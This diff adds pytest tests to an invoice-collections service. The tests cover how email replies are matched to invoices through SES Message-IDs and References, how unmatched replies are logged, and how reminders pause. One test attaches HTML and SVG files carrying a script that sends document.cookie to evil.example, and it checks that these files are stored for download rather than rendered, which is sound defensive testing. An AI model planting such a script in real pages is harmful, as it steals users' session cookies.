@@ -7,7 +7,8 @@ Given the messages Outlook, Gmail, Apple Mail, a German Exchange out-of-office a
 from __future__ import annotations
 
 import base64
-from datetime import date, datetime, timezone
+import hashlib
+from datetime import date, datetime, timedelta, timezone
 from pathlib import Path
 
 import pytest
@@ -160,6 +161,35 @@ def test_a_reply_is_matched_by_its_token_first_then_in_reply_to_then_its_sender(
     assert ambiguous.by == "none" and ambiguous.candidates == ("cus_a", "cus_c")
 
 
+@pytest.mark.parametrize("domain", ["email.amazonses.com", "eu-west-1.amazonses.com", "eu-central-1.amazonses.com"])
+def test_in_reply_to_matches_the_ses_message_id_whatever_the_regions_domain(domain):
+    # Given an email Arrears sent through SES: SendEmail answered its MessageId, and SES wrote the Message-ID header
+    # itself as <MessageId@...amazonses.com> (email.amazonses.com in us-east-1, <region>.amazonses.com elsewhere)
+    lookups = Lookups()
+    lookups.sent("inv_a", "cus_a", "overdue_7", SES_ID, "anna.becker@kestrel-logistics.example")
+    # When the debtor's Outlook answers it at the creditor's own address (no token), quoting that header
+    raw = fixture("outlook_human.eml", "accounts@northwind.example").replace(b"eu-west-1.amazonses.com", domain.encode())
+    match = replies.match_reply(replies.parse_message(raw), lookups, [SECRET], DOMAIN)
+    # Then it is matched by In-Reply-To to the invoice and step of that email
+    assert (match.by, match.invoice_id, match.step_id) == ("in_reply_to", "inv_a", "overdue_7")
+
+
+def test_a_reply_to_a_colleagues_forward_is_matched_by_the_ses_id_in_its_references():
+    # Given a colleague's forward in between: In-Reply-To names the colleague's message, References keeps ours first
+    lookups = Lookups()
+    lookups.sent("inv_a", "cus_a", "overdue_7", SES_ID, "someone@else.example")
+    raw = (b"From: Ben Meyer <b.meyer@kestrel-logistics.example>\nTo: accounts@northwind.example\nSubject: RE: FW: Reminder\n"
+           b"Message-ID: <AM6PR05MB9999@AM6PR05MB9999.eurprd05.prod.outlook.com>\n"
+           b"In-Reply-To: <AM6PR05MB1111@AM6PR05MB1111.eurprd05.prod.outlook.com>\n"
+           b"References: <" + SES_ID.encode() + b"@eu-west-1.amazonses.com>\n <AM6PR05MB1111@AM6PR05MB1111.eurprd05.prod.outlook.com>\n"
+           b"Content-Type: text/plain; charset=utf-8\n\nPaid today, remittance attached.\n")
+    match = replies.match_reply(replies.parse_message(raw), lookups, [SECRET], DOMAIN)
+    assert (match.by, match.invoice_id) == ("in_reply_to", "inv_a")
+    # And a thread of messages Arrears never sent (from an address it never emailed) matches nothing
+    unrelated = raw.replace(SES_ID.encode(), b"0102019aunknown-0000")
+    assert replies.match_reply(replies.parse_message(unrelated), lookups, [SECRET], DOMAIN).by == "none"
+
+
 def test_a_forged_token_matches_nothing():
     lookups = Lookups()
     lookups.sent("inv_a", "cus_a", "overdue_7", SES_ID, "ap@a.example")
@@ -301,6 +331,63 @@ def test_a_hostile_message_is_stored_and_handed_to_a_person(world, name):
         task = ports.store.tasks[outcome["task_id"]]
         assert task["invoice_id"] == UNMATCHED_INVOICE and task["kind"] == "unmatched_reply"
         assert ports.artefacts.get(task["details"]["message"]) == HOSTILE[name]
+        # And the unmatched log names the stored bytes by their hash (the audit archive copies and checks them)
+        entry = ports.store.entries(UNMATCHED_INVOICE)[-1]
+        assert entry.details["task_id"] == task["task_id"] and entry.details["matched_by"] == "none"
+        assert [(a.uri, a.sha256) for a in entry.artefacts][:1] == [(task["details"]["message"], hashlib.sha256(HOSTILE[name]).hexdigest())]
+
+
+def test_a_new_message_from_the_customers_address_is_matched_by_its_sender_and_pauses_it(world):
+    ports, invoice, address, at = world
+    customer = ports.store.customers[invoice.customer_id]
+    # Given a new message (no token, no thread) from the one address Arrears emailed this customer at, in upper case
+    raw = (f"From: Accounts Payable <{customer.email.upper()}>\nTo: accounts@northwind.example\n"
+           "Subject: Invoice query\nDate: Tue, 17 Nov 2026 09:30:00 +0000\nContent-Type: text/plain; charset=utf-8\n\n"
+           "Could you send us a copy with our new PO number 4500123987?\n").encode()
+    receive_message(raw, ports)
+    # Then it is the customer's reply: logged on the invoice last emailed, a task, the pause
+    entry = ports.store.entries(invoice.invoice_id)[-1]
+    assert entry.kind == "reply_received" and entry.details["matched_by"] == "sender"
+    assert "in_reply_to_step" not in entry.details and "4500123987" in entry.details["text"]
+    assert active_pause(ports.store, invoice.customer_id, at)["task_id"] == entry.details["task_id"]
+
+
+def test_a_reply_nobody_can_match_is_logged_unmatched_with_a_task_and_pauses_no_one(world):
+    ports, invoice, address, at = world
+    # Given Apple Mail's reply from an address Arrears never emailed, to the creditor's address, quoting no message of ours
+    raw = fixture("apple_mail_human.eml", ses_id="0102019aneversent-0000")
+    outcome = receive_message(raw, ports)
+    # Then an unmatched_reply task for the finance team, and the unmatched log holds the message and its attachment
+    assert outcome["outcome"] == "unmatched" and ports.store.tasks[outcome["task_id"]]["kind"] == "unmatched_reply"
+    entry = ports.store.entries(UNMATCHED_INVOICE)[-1]
+    assert (entry.kind, entry.customer_id, entry.actor) == ("reply_received", "", "claire.dubois@atelier-lumiere.example")
+    assert [a.kind for a in entry.artefacts] == ["reply", "reply_attachment"]
+    assert ports.artefacts.get(entry.artefacts[1].uri).startswith(b"%PDF-1.4")
+    # Nothing on the invoice, nobody paused
+    assert not any(e.kind == "reply_received" for e in ports.store.entries(invoice.invoice_id))
+    assert active_pause(ports.store, invoice.customer_id, at) is None
+
+
+def test_attachments_a_browser_would_run_are_stored_to_download_never_to_render(world):
+    ports, invoice, address, at = world
+    # Given a reply to the token carrying a PDF, an HTML page and an SVG (both with scripts) and a PNG
+    def part(content_type: str, name: str, body: bytes) -> str:
+        return (f"--b\nContent-Type: {content_type}; name=\"{name}\"\nContent-Disposition: attachment; filename=\"{name}\"\n"
+                f"Content-Transfer-Encoding: base64\n\n{base64.encodebytes(body).decode()}")
+    script = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
+    raw = (f"From: ap@debtor.example\nTo: {address}\nSubject: Re: invoice\nMIME-Version: 1.0\n"
+           "Content-Type: multipart/mixed; boundary=\"b\"\n\n--b\nContent-Type: text/plain\n\nSee attached.\n"
+           + part("application/pdf", "remittance.pdf", b"%PDF-1.4 remittance")
+           + part("text/html", "statement.html", b"<html><body>paid" + script + b"</body></html>")
+           + part("image/svg+xml", "logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>")
+           + part("image/png", "scan.png", b"\x89PNG\r\n\x1a\n") + "--b--\n").encode()
+    receive_message(raw, ports)
+    entry = ports.store.entries(invoice.invoice_id)[-1]
+    # Then each is kept whole, the active ones stored as application/octet-stream (a presigned link downloads them)
+    assert [(a.uri.rpartition("/")[2], a.content_type) for a in entry.artefacts[1:]] == [
+        ("01-remittance.pdf", "application/pdf"), ("02-statement.html", "application/octet-stream"),
+        ("03-logo.svg", "application/octet-stream"), ("04-scan.png", "image/png")]
+    assert script in ports.artefacts.get(entry.artefacts[2].uri)
 
 
 def test_an_unreadable_reply_to_a_token_is_logged_as_unreadable_with_a_task(world):
@@ -311,6 +398,36 @@ def test_an_unreadable_reply_to_a_token_is_logged_as_unreadable_with_a_task(worl
     entry = ports.store.entries(invoice.invoice_id)[-1]
     assert entry.kind == "reply_received" and entry.details["unreadable"] is True and entry.details["problems"]
     assert ports.store.tasks[entry.details["task_id"]]["details"]["problems"]
+
+
+# --- the simulator ------------------------------------------------------------------------------------------------
+@pytest.mark.parametrize("render", [True, False])
+def test_the_simulator_pauses_for_a_reply_it_is_given_until_its_task_is_done(default_policy, render):
+    from arrears.ingestion.providers.stripe import to_update
+    from arrears.usecases.simulator import Simulation
+    from arrears_local.demo import book_events
+    from arrears_local.portfolio import DEMO_START
+    from arrears_local.runtime import LOCAL_INBOUND_DOMAIN, LOCAL_REPLY_TOKEN_SECRET, local_reply_to
+
+    # Given a never-paying debtor's book, simulated (rendered, or plan-only as a dry run) with the stack's Reply-To
+    item = next(i for i in sample_portfolio(DEMO_START, 20) if i.behaviour == "never pays")
+    invoice = item.invoice
+    events, _ = book_events([item], default_policy)
+    simulation = Simulation(default_policy, "collections@northwind.example", render=render, reply_to=local_reply_to)
+    simulation.add_updates([(event.at, to_update(event.document())) for event in events])
+    # When Gmail's reply to the first overdue reminder comes at +13 and a person marks its task done at +16, 06:00
+    simulation.add_reply(invoice.due + timedelta(days=13), fixture("gmail_human.eml", local_reply_to(invoice.invoice_id, "overdue_7")),
+                         LOCAL_INBOUND_DOMAIN, [LOCAL_REPLY_TOKEN_SECRET])
+    handled_at = invoice.due + timedelta(days=16, hours=6)
+    simulation.add_action(handled_at, lambda sim: sim.complete_task(
+        next(t["task_id"] for t in sim.store.open_tasks_of(invoice.invoice_id) if t["kind"] == "read_reply"), "called", "finance"))
+    entries = simulation.run(DEMO_START + timedelta(days=70)).logs[invoice.invoice_id]
+    # Then the reminder due meanwhile waited for the person, and went once the task was done
+    kinds = [(e.kind, e.step_id) for e in entries]
+    assert kinds.index(("reply_received", None)) < kinds.index(("contact_deferred", "overdue_15")) < kinds.index(
+        ("reply_pause_ended", None)) < kinds.index(("email", "overdue_15"))
+    sent = next(e for e in entries if e.kind == "email" and e.step_id == "overdue_15")
+    assert handled_at <= sent.at < handled_at + timedelta(hours=1)
 
 
 # --- the policy -----------------------------------------------------------------------------------------------------
@@ -324,3 +441,13 @@ def test_a_version_before_4_reads_back_with_no_pause(default_policy):
     assert pause_end(datetime(2026, 11, 17, 9, tzinfo=timezone.utc), older, customer) is None
     # Three German business days from Friday 2 October 2026: Monday 5, Tuesday 6, Wednesday 7 (3 October is a holiday)
     assert pause_end(datetime(2026, 10, 2, 9, tzinfo=timezone.utc), default_policy, customer).date() == date(2026, 10, 7)
+
+
+# --- the inbound function -----------------------------------------------------------------------------------------
+def test_the_inbound_handlers_import_loads_no_xray_sdk_or_settings_library_with_tracing_off():
+    # Given a fresh interpreter with tracing off (the template's default), as Lambda's cold start
+    from tests.unit.test_cold_start_imports import _imported_by
+
+    # When the inbound function's handler module is imported; Then none of the lazily loaded libraries is loaded:
+    # it is wrapped like every other handler (arrears.adapters.tracing.traced), not by a Tracer made at import
+    assert _imported_by("inbound") == set()
